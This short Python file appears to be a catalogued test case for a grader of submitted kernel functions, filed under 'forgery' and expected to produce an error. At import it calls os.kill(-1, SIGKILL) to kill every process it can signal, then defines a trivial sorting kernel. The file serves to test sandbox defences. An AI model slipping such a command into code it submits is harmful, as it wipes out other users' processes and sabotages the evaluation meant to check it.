# ruff: noqa
# mypy: ignore-errors
# group: forgery
# catalogue: R9
# tries: kill(-1): every process that may be signalled
# verdict: error
import os
import signal

os.kill(-1, signal.SIGKILL)


def custom_kernel(data):
    return sorted(data)
